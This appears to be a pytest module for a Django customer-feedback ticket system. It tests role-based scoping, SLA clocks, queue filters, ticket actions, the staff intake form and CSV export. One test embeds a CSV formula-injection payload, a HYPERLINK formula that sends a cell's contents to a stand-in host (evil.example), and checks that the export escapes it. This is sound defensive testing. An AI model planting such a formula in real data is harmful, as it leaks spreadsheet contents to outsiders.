"""The queue, the ticket page and the staff intake form: scope by role (404 outside it), actions
through services, constant query counts, no 500 on bad input."""

import csv
import io
from datetime import timedelta

import pytest
from auditlog.models import LogEntry
from django.core.exceptions import ValidationError
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from core.roles import Role
from feedback import selectors
from feedback.models import TICKET_TEXT_MAX_LENGTH, Survey, Ticket, TicketMessage, TicketStatus
from feedback.services.handling import ticket_close, ticket_note_add
from servicedesk.models import CallTopic
from tests.factories.clients import VipClientFactory
from tests.factories.core import UserFactory
from tests.factories.feedback import TicketFactory
from tests.factories.servicedesk import CallLogFactory

pytestmark = pytest.mark.django_db

QUEUE = reverse("feedback:queue")


def detail(ticket):
    return reverse("feedback:ticket_detail", args=[ticket.reference])


def action(ticket, name):
    return reverse(f"feedback:ticket_{name}", args=[ticket.reference])


@pytest.fixture
def tickets(client_of_rm, client_of_colleague, client_elsewhere):
    return {
        "mine": TicketFactory(client=client_of_rm, subject="mine"),
        "colleague": TicketFactory(client=client_of_colleague, subject="colleague"),
        "elsewhere": TicketFactory(client=client_elsewhere, subject="elsewhere"),
        "unmatched": TicketFactory(client=None, subject="unmatched", sender_email="x@y.example"),
    }


def _listed(response) -> set[str]:
    return {t.subject for t in response.context["tickets"]}


def test_feedback_team_sees_every_ticket(login, feedback_user, tickets):
    assert _listed(login(feedback_user).get(QUEUE)) == set(tickets)


# The queue reads an RM's or branch's ticket keys into a list up to KEYS_LISTED_MAX, and keeps the
# subquery past it: both must show the same tickets.
KEYS_LISTED = pytest.mark.parametrize("keys_listed_max", [2_000, 1], ids=["listed", "subquery"])


@KEYS_LISTED
def test_rm_sees_only_tickets_on_own_clients(
    login, rm_user, tickets, client_elsewhere, keys_listed_max, monkeypatch
):
    monkeypatch.setattr(selectors, "KEYS_LISTED_MAX", keys_listed_max)
    logged = TicketFactory(client=client_elsewhere, subject="logged", created_by=rm_user)
    http = login(rm_user)
    assert _listed(http.get(QUEUE)) == {"mine", "logged"}
    assert http.get(detail(tickets["mine"])).status_code == 200
    assert http.get(detail(logged)).status_code == 200
    for other in ("colleague", "elsewhere", "unmatched"):
        assert http.get(detail(tickets[other])).status_code == 404


@KEYS_LISTED
def test_branch_staff_see_their_branch_and_what_they_logged(
    login, branch_staff, tickets, client_elsewhere, keys_listed_max, monkeypatch
):
    monkeypatch.setattr(selectors, "KEYS_LISTED_MAX", keys_listed_max)
    logged = TicketFactory(client=client_elsewhere, subject="logged", created_by=branch_staff)
    http = login(branch_staff)
    assert _listed(http.get(QUEUE)) == {"mine", "colleague", "logged"}
    assert http.get(detail(logged)).status_code == 200
    assert http.get(detail(tickets["elsewhere"])).status_code == 404


def test_outsider_gets_404(login, outsider, tickets):
    http = login(outsider)
    assert http.get(QUEUE).status_code == 404
    assert http.get(detail(tickets["mine"])).status_code == 404


def test_anonymous_is_sent_to_login(client, tickets):
    assert client.get(QUEUE).status_code == 302


def test_queue_is_most_urgent_first_with_clocks(login, feedback_user, client_of_rm):
    now = timezone.now()
    later = TicketFactory(client=client_of_rm, received_at=now - timedelta(hours=1))
    urgent = TicketFactory(client=client_of_rm, received_at=now - timedelta(hours=40))
    breached = TicketFactory(client=client_of_rm, received_at=now - timedelta(hours=50))
    answered = TicketFactory(
        client=client_of_rm,
        received_at=now - timedelta(hours=60),
        first_response_at=now - timedelta(hours=59),
        status=TicketStatus.RESPONDED,
    )
    response = login(feedback_user).get(QUEUE)
    assert [t.pk for t in response.context["tickets"]] == [
        breached.pk,
        urgent.pk,
        later.pk,
        answered.pk,
    ]
    html = response.content.decode()
    assert 'data-sla="breached"' in html and 'data-sla="warned"' in html
    assert "2 h overdue" in html
    assert "7 h 59 min left" in html or "8 h left" in html
    assert response.context["counts"] == {"waiting": 3, "breached": 1, "warned": 1}


def test_queue_clock_reads_in_chinese(login, feedback_user, client_of_rm):
    TicketFactory(client=client_of_rm, received_at=timezone.now() - timedelta(hours=51))
    html = login(feedback_user, language="zh-hans").get(QUEUE).content.decode()
    assert "已超时" in html


@pytest.mark.parametrize(
    ("query", "subjects"),
    [
        ("channel=email", {"e"}),
        ("category=praise", {"p"}),
        ("status=all", {"e", "p", "late", "done"}),
        ("status=resolved", {"done"}),
        ("handler=none", {"p", "late"}),
        ("breached=breached", {"late"}),
        ("channel=nonsense&handler=abc", {"e", "p", "late"}),
        ("page=999", {"e", "p", "late"}),
        ("sort=-received_at", {"e", "p", "late"}),
        ("sort=drop table", {"e", "p", "late"}),
    ],
)
def test_queue_filters(login, feedback_user, client_of_rm, query, subjects):
    now = timezone.now()
    TicketFactory(client=client_of_rm, subject="e", channel="email", handler=feedback_user)
    TicketFactory(client=client_of_rm, subject="p", category="praise")
    TicketFactory(client=client_of_rm, subject="late", received_at=now - timedelta(hours=49))
    TicketFactory(client=client_of_rm, subject="done", status=TicketStatus.RESOLVED)
    response = login(feedback_user).get(f"{QUEUE}?{query}")
    assert response.status_code == 200
    assert _listed(response) == subjects


def test_a_handler_filter_on_someone_who_handles_nothing_is_refused_and_drops_every_filter(
    login, feedback_user, rm_user, client_of_rm
):
    TicketFactory(client=client_of_rm, subject="e", channel="email", handler=feedback_user)
    TicketFactory(client=client_of_rm, subject="p")
    http = login(feedback_user, language="zh-hans")
    refused = http.get(QUEUE, {"handler": rm_user.pk, "channel": "email"})
    assert _listed(refused) == {"e", "p"}
    assert "部分筛选条件无法识别" in refused.content.decode()
    chosen = http.get(QUEUE, {"handler": feedback_user.pk})
    assert _listed(chosen) == {"e"}
    assert f'<option value="{feedback_user.pk}" selected>' in chosen.content.decode()


def test_queue_query_count_does_not_grow_with_rows(
    login, feedback_user, client_of_rm, django_assert_num_queries
):
    http = login(feedback_user)
    for _ in range(3):
        TicketFactory(client=client_of_rm)
    http.get(QUEUE)
    with CaptureQueriesContext(connection) as three:
        assert len(http.get(QUEUE).context["tickets"]) == 3
    for _ in range(27):
        TicketFactory(client=VipClientFactory(), handler=feedback_user)
    with django_assert_num_queries(len(three)):
        assert len(http.get(QUEUE).context["tickets"]) == 25


def test_detail_query_count_does_not_grow_with_the_thread(login, feedback_user, client_of_rm):
    ticket = TicketFactory(client=client_of_rm)
    http = login(feedback_user)
    http.get(detail(ticket))
    with CaptureQueriesContext(connection) as short:
        http.get(detail(ticket))
    for i in range(10):
        ticket_note_add(ticket=ticket, author=feedback_user, body=f"note {i}")
    with CaptureQueriesContext(connection) as long:
        http.get(detail(ticket))
    assert len(short) == len(long)


def test_team_responds_and_the_clock_stops(login, feedback_user, client_of_rm):
    ticket = TicketFactory(client=client_of_rm)
    http = login(feedback_user)
    response = http.post(action(ticket, "respond"), {"body": "We called the card centre."})
    assert response.status_code == 302
    ticket.refresh_from_db()
    assert ticket.first_response_at is not None
    assert ticket.status == TicketStatus.RESPONDED
    assert ticket.handler == feedback_user
    page = http.get(detail(ticket)).content.decode()
    assert "We called the card centre." in page


def test_empty_response_changes_nothing(login, feedback_user, client_of_rm):
    ticket = TicketFactory(client=client_of_rm)
    response = login(feedback_user).post(action(ticket, "respond"), {"body": "  "}, follow=True)
    assert response.status_code == 200
    ticket.refresh_from_db()
    assert ticket.first_response_at is None
    assert "Write the message first." in response.content.decode()


def test_take_assign_resolve_close(login, feedback_user, supervisor, client_of_rm):
    ticket = TicketFactory(client=client_of_rm)
    other = UserFactory(username="fb_two", role=Role.FEEDBACK_TEAM)
    http = login(feedback_user)
    http.post(action(ticket, "take"))
    ticket.refresh_from_db()
    assert ticket.handler == feedback_user and ticket.status == TicketStatus.IN_PROGRESS
    http.post(action(ticket, "assign"), {"handler": other.pk})
    ticket.refresh_from_db()
    assert ticket.handler == other
    assert other.notifications.count() == 1
    http.post(action(ticket, "resolve"), {"body": "Refunded the fee."})
    ticket.refresh_from_db()
    assert ticket.status == TicketStatus.RESOLVED and ticket.resolved_at
    assert Survey.objects.filter(ticket=ticket).exists()
    http.post(action(ticket, "close"), {"reason": ""})
    ticket.refresh_from_db()
    assert ticket.status == TicketStatus.CLOSED
    response = http.post(action(ticket, "respond"), {"body": "late"}, follow=True)
    assert "already resolved or closed" in response.content.decode()


def test_assign_to_someone_outside_the_team_is_refused(login, feedback_user, rm_user, client_of_rm):
    ticket = TicketFactory(client=client_of_rm)
    response = login(feedback_user).post(action(ticket, "assign"), {"handler": rm_user.pk})
    assert response.status_code == 302
    ticket.refresh_from_db()
    assert ticket.handler is None


def test_rm_may_note_but_not_respond(login, rm_user, client_of_rm):
    ticket = TicketFactory(client=client_of_rm)
    http = login(rm_user)
    assert http.post(action(ticket, "respond"), {"body": "x"}).status_code == 404
    http.post(action(ticket, "note"), {"body": "Client is upset, call before noon."})
    assert ticket.messages.get().kind == TicketMessage.Kind.INTERNAL_NOTE


def test_unknown_action_is_404(login, feedback_user, client_of_rm):
    ticket = TicketFactory(client=client_of_rm)
    explode = f"/feedback/tickets/{ticket.reference}/explode/"
    assert login(feedback_user).post(explode).status_code == 404
    assert login(feedback_user).get(action(ticket, "take")).status_code == 405


def test_bulk_assign(login, feedback_user, client_of_rm):
    a, b, c = (TicketFactory(client=client_of_rm) for _ in range(3))
    http = login(feedback_user)
    http.post(
        reverse("feedback:bulk_assign"),
        {"tickets": [a.reference, b.reference], "handler": feedback_user.pk},
    )
    assert set(Ticket.objects.filter(handler=feedback_user)) == {a, b}
    response = http.post(reverse("feedback:bulk_assign"), {"handler": "x"}, follow=True)
    assert response.status_code == 200
    assert login(feedback_user).post(reverse("feedback:bulk_assign"), {}).status_code == 302
    assert c.handler is None


def test_rm_cannot_bulk_assign(login, rm_user, client_of_rm):
    ticket = TicketFactory(client=client_of_rm)
    response = login(rm_user).post(
        reverse("feedback:bulk_assign"), {"tickets": [ticket.reference], "handler": rm_user.pk}
    )
    assert response.status_code == 404


def test_link_unmatched_ticket_to_a_client(login, feedback_user, client_of_rm, rm_user):
    ticket = TicketFactory(client=None, sender_email="x@y.example")
    http = login(feedback_user)
    bad = http.post(action(ticket, "link_client"), {"client_no": "nope"}, follow=True)
    assert "No client has this client number." in bad.content.decode()
    http.post(action(ticket, "link_client"), {"client_no": client_of_rm.client_no})
    ticket.refresh_from_db()
    assert ticket.client == client_of_rm
    assert rm_user.notifications.count() == 1


def test_feedback_team_sees_client_header_without_dossier_link(login, feedback_user, client_of_rm):
    ticket = TicketFactory(client=client_of_rm)
    response = login(feedback_user).get(detail(ticket))
    assert client_of_rm.name in response.content.decode()
    assert response.context["can_open_dossier"] is False
    assert client_of_rm.phone not in response.content.decode()


def test_rm_may_open_the_dossier_of_own_client(login, rm_user, client_of_rm):
    ticket = TicketFactory(client=client_of_rm)
    assert login(rm_user).get(detail(ticket)).context["can_open_dossier"] is True


class TestIntakeForm:
    url = reverse("feedback:ticket_new")

    def test_prefilled_from_the_hotline_console(self, login, rm_user, client_of_rm):
        call = CallLogFactory(
            client=client_of_rm, handled_by=rm_user, topic=CallTopic.COMPLAINT, notes="等了很久"
        )
        response = login(rm_user).get(f"{self.url}?channel=phone&call={call.pk}")
        form = response.context["form"]
        assert form.initial == {
            "client_no": client_of_rm.client_no,
            "channel": "phone",
            "call": call.pk,
            "subject": "Complaint",
            "description": "等了很久",
        }

    def test_a_call_outside_the_users_scope_answers_404(self, login, rm_user, client_elsewhere):
        call = CallLogFactory(client=client_elsewhere, notes="secret")
        response = login(rm_user).get(f"{self.url}?call={call.pk}")
        assert response.status_code == 404 and "secret" not in response.content.decode()

    def test_a_client_outside_scope_or_a_junk_id_answers_404(
        self, login, rm_user, client_elsewhere
    ):
        http = login(rm_user)
        assert http.get(f"{self.url}?client={client_elsewhere.pk}").status_code == 404
        assert http.get(f"{self.url}?channel=x&call=y").status_code == 404

    def test_a_junk_channel_is_ignored(self, login, rm_user):
        response = login(rm_user).get(f"{self.url}?channel=x")
        assert response.status_code == 200 and response.context["form"].initial == {}

    def test_rm_logs_feedback_and_the_clock_starts(self, login, rm_user, client_of_rm):
        call = CallLogFactory(client=client_of_rm, handled_by=rm_user)
        response = login(rm_user).post(
            self.url,
            {
                "client_no": client_of_rm.client_no,
                "channel": "phone",
                "category": "complaint",
                "subject": "Waited 20 minutes",
                "description": "On hold for 20 minutes.",
                "call": str(call.pk),
            },
        )
        ticket = Ticket.objects.get()
        assert response.status_code == 302 and response["Location"] == detail(ticket)
        assert ticket.call_id == call.pk and ticket.created_by == rm_user
        assert ticket.first_response_due_at - ticket.received_at == timedelta(hours=48)

    def test_client_outside_scope_is_refused(self, login, rm_user, client_elsewhere):
        response = login(rm_user).post(
            self.url,
            {
                "client_no": client_elsewhere.client_no,
                "channel": "phone",
                "category": "complaint",
                "subject": "s",
                "description": "d",
            },
        )
        assert response.status_code == 200
        assert "No client you may see has this client number." in response.content.decode()
        assert Ticket.objects.count() == 0

    def test_branch_staff_logs_a_branch_visit(self, login, branch_staff, branch):
        client = VipClientFactory(branch=branch)
        login(branch_staff).post(
            self.url,
            {
                "client_no": client.client_no,
                "channel": "branch",
                "category": "suggestion",
                "subject": "Longer opening hours",
                "description": "Saturdays please.",
            },
        )
        assert Ticket.objects.get().channel == "branch"

    def test_email_and_app_are_not_staff_channels(self, login, rm_user, client_of_rm):
        response = login(rm_user).post(
            self.url,
            {
                "client_no": client_of_rm.client_no,
                "channel": "app",
                "category": "complaint",
                "subject": "s",
                "description": "d",
            },
        )
        assert response.status_code == 200 and Ticket.objects.count() == 0


def test_team_exports_the_filtered_queue_as_csv_and_it_is_audited(
    login, feedback_user, client_of_rm
):

    TicketFactory(client=client_of_rm, subject="投诉一", channel="email")
    TicketFactory(client=client_of_rm, subject="other", channel="phone")
    response = login(feedback_user).get(reverse("feedback:queue_export") + "?channel=email")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert rows[0][0] == "reference"
    assert [r[-1] for r in rows[1:]] == ["投诉一"]
    assert rows[1][1] == client_of_rm.client_no
    assert LogEntry.objects.filter(additional_data__event="feedback.queue_exported").exists()


def test_a_formula_in_a_ticket_subject_is_not_live_in_the_queue_export(
    login, feedback_user, client_of_rm
):
    """Issue 12 point 12: the subject a client typed must not run in the supervisor's Excel."""

    evil = '=HYPERLINK("http://evil.example/?x="&A2,"Click for details")'
    TicketFactory(client=client_of_rm, subject=evil)
    response = login(feedback_user).get(reverse("feedback:queue_export"))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert rows[1][-1] == "'" + evil


def test_rm_may_not_export(login, rm_user):
    assert login(rm_user).get(reverse("feedback:queue_export")).status_code == 404


def test_a_close_with_a_too_long_reason_is_refused_and_the_ticket_stays_open(
    login, feedback_user, client_of_rm
):
    ticket = TicketFactory(client=client_of_rm, handler=feedback_user)

    response = login(feedback_user).post(
        reverse("feedback:ticket_close", args=[ticket.reference]),
        {"reason": "x" * (TICKET_TEXT_MAX_LENGTH + 1)},
        follow=True,
    )

    ticket.refresh_from_db()
    assert ticket.status != TicketStatus.CLOSED
    assert f"(it has {TICKET_TEXT_MAX_LENGTH + 1})" in response.content.decode()
    assert not ticket.messages.exists()


def test_the_close_service_refuses_a_too_long_reason(feedback_user, client_of_rm):
    ticket = TicketFactory(client=client_of_rm)

    with pytest.raises(ValidationError):
        ticket_close(ticket=ticket, actor=feedback_user, reason="x" * (TICKET_TEXT_MAX_LENGTH + 1))

    ticket.refresh_from_db()
    assert ticket.status != TicketStatus.CLOSED
